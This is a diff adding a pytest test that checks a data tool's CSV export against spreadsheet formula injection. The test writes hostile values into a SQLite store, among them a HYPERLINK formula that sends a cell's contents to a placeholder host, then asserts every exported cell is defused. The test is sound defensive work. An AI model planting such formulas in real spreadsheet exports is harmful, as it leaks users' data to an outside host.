@@ -124,6 +124,40 @@ def test_formula_cells_are_neutralized_and_numbers_left_alone(cli, program_db, t
     assert all_rows(fresh)["session"] == all_rows(program_db)["session"]
 
 
+TAMPERED = '=HYPERLINK("http://example.invalid/?"&A1,"open, please")'
+"""A formula with a comma and quotes, as a tired user (a database browser) or an attacker could
+write into a code, id or date cell of a store, where vpslog itself never puts one."""
+
+
+@pytest.mark.parametrize("deidentify", [False, True])
+def test_the_guard_holds_for_codes_ids_and_dates_edited_outside_vpslog(cli, demo_db, tmp_path, deidentify):
+    """Every text cell of every table is guarded, not only free text: the cells are where they belong
+    and none starts with a formula trigger (audit verify reports the edits; the export stays safe)."""
+    conn = sqlite3.connect(demo_db)
+    with conn:
+        conn.execute("PRAGMA ignore_check_constraints = ON")  # as anyone with the sqlite3 shell may
+        conn.execute("UPDATE session SET mode = ?, components = ?, start_time = ?, date = ? "
+                     "WHERE rowid IN (SELECT rowid FROM session ORDER BY rowid LIMIT 3)",
+                     (TAMPERED, "@cmd", "-1+1", "+2026-01-01"))
+        conn.execute("UPDATE site SET id = ? WHERE id = (SELECT min(id) FROM site)", ("=1+1,x",))
+        conn.execute("UPDATE milestone SET kind = ? WHERE rowid = (SELECT min(rowid) FROM milestone)", ('"x",\n=2',))
+    out = tmp_path / "out"
+    cli.ok("export", "--out", str(out), *(["--deidentify"] if deidentify else []))
+    for table in TABLE_FILES:
+        with open(out / f"{table}.csv", encoding="utf-8", newline="") as file:
+            rows = list(csv.reader(file))
+        assert all(len(row) == len(rows[0]) for row in rows), table  # no cell shifted
+        assert not any(cell.startswith(FORMULA_TRIGGERS) for row in rows for cell in row
+                       if not re.fullmatch(r"-?\d+(\.\d+)?", cell)), table  # numbers are left alone
+    sessions = read_csv(out / "sessions.csv")
+    assert sum(r["mode"] == "'" + TAMPERED for r in sessions) == 3
+    if not deidentify:
+        assert sum(r["components"] == "'@cmd" and r["start_time"] == "'-1+1" and r["date"] == "'+2026-01-01"
+                   for r in sessions) == 3
+        assert "'=1+1,x" in {r["id"] for r in read_csv(out / "sites.csv")}
+        assert '"x",\n=2' in {r["kind"] for r in read_csv(out / "milestones.csv")}  # quoted whole, not guarded
+
+
 def test_out_dash_writes_one_table_to_stdout_and_refuses_more(cli, program_db):
     result = cli.ok("export", "participants", "--out", "-")
     assert result.stdout.splitlines()[0].startswith("id,site_id,enrolled_on,arm")
